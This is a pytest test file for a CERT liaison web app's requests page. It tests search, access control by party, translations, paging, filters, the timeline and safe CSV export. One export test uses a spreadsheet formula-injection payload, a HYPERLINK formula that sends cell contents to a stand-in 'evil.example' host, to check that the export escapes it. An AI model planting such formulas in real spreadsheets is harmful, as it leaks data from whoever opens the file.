"""The requests page: sent date and short id, words searched (in a request's translations the
reader reads too), filters kept in the address, and the listed rows as a CSV file a spreadsheet
opens safely; the timeline names who acted."""

from __future__ import annotations

import csv
import io
import re
from html import unescape

import pytest

from accord.store.audit_log import AuditQuery
from accord.trust.access import Grant

EVIDENCE = {
    "type": "indicator", "spec_version": "2.1",
    "id": "indicator--7f0b6c1e-0000-4000-8000-00000000a001",
    "created": "2026-01-01T00:00:00.000Z", "modified": "2026-01-01T00:00:00.000Z",
    "name": "Sakula C2", "pattern": "[ipv4-addr:value = '198.51.100.7']",
    "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z",
}
REQUEST = {"kind": "information", "category": "intrusion", "urgency": "priority",
           "evidence": EVIDENCE["id"]}


@pytest.fixture
def officers(world):
    world.node.objects.add(world.evidence.id, [EVIDENCE], poster_id=world.own.id)
    world.node.directory.grant(world.evidence.id, world.other, Grant(True, False))
    us = world.node.directory.create_token(world.own, role="liaison", name="Officer Smith")
    cn = world.node.directory.create_token(world.other, role="liaison", name="Officer Wang")
    return us, cn


def send(page, to: str, summary: str, description: str = "") -> str:
    page.get("/ui/requests/new")
    sent = page.post("/ui/requests/new", {**REQUEST, "to": to, "summary": summary,
                                          "description": description})
    assert sent.status_code == 303, sent.text
    return re.search(r"(x-accord-request--[0-9a-f-]+)", sent.headers["location"]).group(1)


def test_the_list_shows_when_each_request_was_sent_and_its_short_id(world, browser, officers):
    us = browser(officers[0])
    rid = send(us, world.other.id, "Who operates 198.51.100.7?")
    page = us.get("/ui/requests").text
    short = rid.rpartition("--")[2][:8]
    assert f'<code class="rid" title="Request id {rid}' in page and f">{short}</code>" in page
    assert re.search(r'<td class="small"><time datetime="\d{4}-\d\d-\d\dT[\d:]+Z"', page)


def test_words_find_requests_by_summary_description_id_and_party(world, browser, officers):
    us = browser(officers[0])
    c2 = send(us, world.other.id, "Who operates 198.51.100.7?", "Beaconing from OPM hosts")
    dump = send(us, world.other.id, "Preserve the Tianjin server logs")

    def found(q: str) -> set[str]:
        text = us.get("/ui/requests", params={"q": q}).text
        return {rid for rid in (c2, dump) if f"/ui/requests/{rid}" in text}

    assert found("198.51.100.7") == {c2}
    assert found("１９８．５１．１００．７") == {c2}  # typed in full width, as IMEs do
    assert found("opm HOSTS") == {c2}  # the description, case aside
    assert found(dump.rpartition("--")[2][:8]) == {dump}  # the short id
    assert found("CNCERT") == {c2, dump}  # the other party's name
    assert found(world.other.id) == {c2, dump}
    assert found("nothing like it") == set()
    # the filters stay in the address and in the form, and the export carries them
    page = us.get("/ui/requests", params={"q": "Tianjin", "direction": "sent"}).text
    assert 'name="q" type="search" value="Tianjin"' in page
    assert 'href="/ui/requests.csv?direction=sent&amp;q=Tianjin"' in page


def test_a_party_finds_only_requests_it_may_see(world, browser, officers):
    us = browser(officers[0])
    rid = send(us, world.other.id, "Who operates 198.51.100.7?")
    russia = world.node.directory.add_party("Russia")
    ru = browser(world.node.directory.create_token(russia, role="liaison"))
    for q in (rid, "198.51.100.7", "CNCERT"):
        listed = ru.get("/ui/requests", params={"q": q})
        assert listed.status_code == 200 and "No request matches" in listed.text, q
        assert f"/ui/requests/{rid}" not in listed.text, q
        exported = ru.get("/ui/requests.csv", params={"q": q})
        assert rid not in exported.content.decode("utf-8-sig"), q


def translate(page, rid: str, lang: str, summary: str, description: str = "") -> None:
    page.get(f"/ui/requests/{rid}")
    done = page.post(f"/ui/requests/{rid}/translations", {
        "object": rid, "lang": lang, "text-summary": summary,
        **({"text-description": description} if description else {})})
    assert done.status_code == 303, done.text


def rows_of(page, q: str) -> dict[str, str]:
    """By request id, the cell of each row the search lists, as read."""
    text = unescape(page.get("/ui/requests", params={"q": q}).text)
    return dict(re.findall(r'<td><a href="/ui/requests/(x-accord-request--[0-9a-f-]+)">'
                           r"(.*?)</td>", text, re.S))


def test_words_of_a_translation_find_a_request_and_its_row_shows_where(world, browser,
                                                                       officers):
    us, cn = browser(officers[0]), browser(officers[1])
    rid = send(us, world.other.id, "Phishing from a fake ministry", "Mails since Monday")
    other = send(us, world.other.id, "Preserve the Tianjin server logs")
    assert rows_of(cn, "钓鱼") == {}
    translate(cn, rid, "zh-Hans", "冒充部委的钓鱼邮件", "自周一起的邮件")
    assert cn.post("/ui/language", {"lang": "zh-Hans", "next": "/ui/"}).status_code == 303
    found = rows_of(cn, "钓鱼")
    assert list(found) == [rid]  # and the translated summary under the original, marked so
    assert re.search(r'Phishing from a fake ministry</a><div class="translated" '
                     r'lang="zh-Hans"><span class="tag">译文 · translation</span> '
                     r"冒充部委的钓鱼邮件 <span[^>]*>中文（简体），由 China \(CNCERT/CC\) 翻译",
                     found[rid]), found[rid]
    assert list(rows_of(cn, "周一")) == [rid]  # its translated description
    assert list(rows_of(us, "钓鱼")) == [rid]  # the requester reads it too, in English
    assert "Chinese (Simplified), translated by China (CNCERT/CC)" in rows_of(us, "钓鱼")[rid]
    # Found by its own words: the row shows the translation in its reader's language, as any
    # row does (below), and none to a reader of the original's.
    assert "冒充部委的钓鱼邮件" in rows_of(cn, "phishing")[rid]
    assert 'class="translated"' not in rows_of(us, "phishing")[rid]
    assert other not in rows_of(cn, "钓鱼")
    exported = cn.get("/ui/requests.csv", params={"q": "钓鱼"}).content.decode("utf-8-sig")
    assert [line[0] for line in csv.reader(io.StringIO(exported))][1:] == [rid]


def test_a_request_written_in_chinese_is_found_by_the_words_of_its_english_translation(
        world, browser, officers):
    us, cn = browser(officers[0]), browser(officers[1])
    cn.get("/ui/")
    assert cn.post("/ui/language", {"lang": "zh-Hans", "next": "/ui/"}).status_code == 303
    rid = send(cn, world.own.id, "冒充部委的钓鱼邮件")
    translate(us, rid, "en", "Phishing mails from a fake ministry")
    found = rows_of(us, "PHISHING")
    assert list(found) == [rid] and "Phishing mails from a fake ministry" in found[rid]
    assert "English, translated by United States (US-CERT)" in found[rid]
    assert list(rows_of(cn, "phishing")) == [rid]


def test_no_party_finds_a_request_by_a_translation_it_may_not_read(world, browser, officers):
    us, cn = browser(officers[0]), browser(officers[1])
    rid = send(us, world.other.id, "Phishing from a fake ministry")
    translate(cn, rid, "zh-Hans", "冒充部委的钓鱼邮件")
    russia = world.node.directory.add_party("Russia")
    requests = world.node.directory.collection("requests")
    world.node.directory.grant(requests.id, russia, Grant(True, True))
    ru = browser(world.node.directory.create_token(russia, role="liaison"))
    for q in ("钓鱼", "冒充部委的钓鱼邮件", "translation"):
        listed = ru.get("/ui/requests", params={"q": q})
        assert listed.status_code == 200 and "No request matches" in listed.text, q
        assert rid not in listed.text and "钓鱼" not in ru.get(
            "/ui/requests.csv", params={"q": q}).content.decode("utf-8-sig"), q


def test_an_overlong_search_is_refused_with_its_length(world, browser, officers):
    us = browser(officers[0])
    page = us.get("/ui/requests", params={"q": "x" * 201})
    assert page.status_code == 400 and "201 characters" in page.text and "200" in page.text
    export = us.get("/ui/requests.csv", params={"q": "x" * 201})
    assert export.status_code == 400 and "201 characters" in export.text


def test_the_export_is_exactly_the_listed_rows_inert_and_readable_in_excel(world, browser,
                                                                         officers):
    us = browser(officers[0])
    hostile = send(us, world.other.id, '=HYPERLINK("http://evil.example/?"&A1,"click")')
    plus = send(us, world.other.id, "+1 server in Tianjin")
    chinese = send(us, world.other.id, "天津服务器的日志")
    page = us.get("/ui/requests", params={"q": "Tianjin"}).text
    assert f"/ui/requests/{plus}" in page and f"/ui/requests/{chinese}" not in page
    got = us.get("/ui/requests.csv", params={"q": "Tianjin"})
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    assert got.headers["content-disposition"].startswith("attachment; filename=\"accord-")
    assert got.headers["cache-control"] == "no-store"
    assert got.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads Chinese
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Id", "Sent (UTC)", "Received (UTC)"]
    assert [r[0] for r in rows[1:]] == [plus]  # what the page lists, no more
    assert rows[1][5] == "'+1 server in Tianjin" and rows[1][4] == "China (CNCERT/CC)"
    assert rows[1][6:8] == ["", ""]  # no translation
    assert rows[1][8:12] == ["Information", "Intrusion", "priority", "Submitted"]  # words
    every = list(csv.reader(io.StringIO(
        us.get("/ui/requests.csv").content.decode("utf-8-sig"))))
    summaries = {r[0]: r[5] for r in every[1:]}
    assert summaries[hostile].startswith("'=HYPERLINK(")
    assert summaries[chinese] == "天津服务器的日志"
    world.node.reads.flush()
    records = world.node.audit.query(AuditQuery(action="request.export", limit=5))
    assert records and set(records[-1].event.object_ids) == {plus}
    assert records[-1].event.detail["q"] == "Tianjin"


def test_each_row_shows_its_summary_in_the_readers_language_where_translated(
        world, browser, officers):
    us, cn = browser(officers[0]), browser(officers[1])
    rid = send(us, world.other.id, "Phishing from a fake ministry")
    plain = send(us, world.other.id, "Preserve the Tianjin server logs")
    translate(cn, rid, "zh-Hans", "冒充部委的钓鱼邮件")
    translate(cn, rid, "fr", "Hameçonnage d'un faux ministère")
    cn.get("/ui/")
    assert cn.post("/ui/language", {"lang": "zh-Hans", "next": "/ui/"}).status_code == 303
    listed = rows_of(cn, "")
    assert re.search(r'Phishing from a fake ministry</a><div class="translated" '
                     r'lang="zh-Hans"><span class="tag">译文 · translation</span> '
                     r"冒充部委的钓鱼邮件 ", listed[rid]), listed[rid]
    assert "Hameçonnage" not in listed[rid]  # a language the reader does not read
    assert 'class="translated"' not in listed[plain]
    dashboard = unescape(cn.get("/ui/").text)
    assert dashboard.count("冒充部委的钓鱼邮件") == 1, "under the incoming running request"
    exported = list(csv.reader(io.StringIO(
        cn.get("/ui/requests.csv").content.decode("utf-8-sig"))))
    assert exported[0][5:8] == ["摘要", "摘要译文", "译文语言"]
    by_id = {line[0]: line for line in exported[1:]}
    assert by_id[rid][5:8] == ["Phishing from a fake ministry", "冒充部委的钓鱼邮件", "zh-Hans"]
    assert by_id[plain][6:8] == ["", ""]
    # A reader of English reads the original alone, in the list, the dashboard and the file.
    assert 'class="translated"' not in rows_of(us, "")[rid]
    assert "冒充部委的钓鱼邮件" not in us.get("/ui/").text
    assert "冒充部委的钓鱼邮件" not in us.get("/ui/requests.csv").content.decode("utf-8-sig")


def test_the_timeline_names_the_person_who_acted(world, browser, officers):
    us, cn = browser(officers[0]), browser(officers[1])
    rid = send(us, world.other.id, "Who operates 198.51.100.7?")
    cn.get(f"/ui/requests/{rid}")
    assert cn.post(f"/ui/requests/{rid}/acknowledge", {"note": "on it"}).status_code == 303
    page = us.get(f"/ui/requests/{rid}").text
    timeline = page[page.index('id="timeline"'):]
    assert re.search(r"by United States \(US-CERT\) \(Officer Smith\)",
                     timeline)
    assert re.search(r"by China \(CNCERT/CC\) \(Officer Wang\)",
                     timeline)


def test_words_found_are_paged_newest_first_each_once(world, browser, officers, monkeypatch):
    from accord.web import requests_list

    us = browser(officers[0])
    sent = [send(us, world.other.id, f"Beacon {n} from OPM hosts") for n in range(7)]
    send(us, world.other.id, "Preserve the Tianjin server logs")
    monkeypatch.setattr(requests_list, "PAGE_SIZE", 3)
    seen, url, pages = [], "/ui/requests?q=beacon", 0
    while url:
        text = us.get(url).text
        assert "7 requests, 3 a page, newest first." in text  # on every page, not what is left
        seen += re.findall(r'href="/ui/requests/(x-accord-request--[0-9a-f-]+)"', text)
        following = re.search(r'href="(/ui/requests\?[^"]*after=[^"]+)"', text)
        url = following.group(1).replace("&amp;", "&") if following else ""
        pages += 1
    assert list(dict.fromkeys(seen)) == sent[::-1] and pages == 3
    forged = us.get("/ui/requests", params={"q": "beacon", "after": "yesterday,x"})
    assert forged.status_code == 400 and "did not make" in forged.text


@pytest.mark.parametrize(("params", "said"), [
    ({"state": "bogus"}, "State “bogus” is not one this list offers"),
    ({"direction": "up"}, "Direction “up” is not one this list offers"),
    ({"category": "zzz"}, "Category “zzz” is not one this list offers"),
])
def test_a_filter_the_list_does_not_offer_is_said_not_dropped(world, browser, officers,
                                                              params, said):
    page = browser(officers[0]).get("/ui/requests", params=params)
    assert page.status_code == 400 and said in page.text


def test_the_other_party_may_be_named_in_the_address_by_its_name(world, browser, officers):
    us = browser(officers[0])
    rid = send(us, world.other.id, "Who operates 198.51.100.7?")
    third = world.node.directory.add_party("United Kingdom (NCSC)")
    for named in ("China (CNCERT/CC)", "china (cncert/cc)", world.other.id):
        page = us.get("/ui/requests", params={"party": named})
        assert page.status_code == 200 and rid in page.text, named
        assert f'<option value="{world.other.id}" selected>' in page.text
    elsewhere = us.get("/ui/requests", params={"party": third.name})
    assert elsewhere.status_code == 200 and rid not in elsewhere.text
    unknown = us.get("/ui/requests", params={"party": "Atlantis"})
    assert unknown.status_code == 400 and "Other party “Atlantis” is not one" in unknown.text
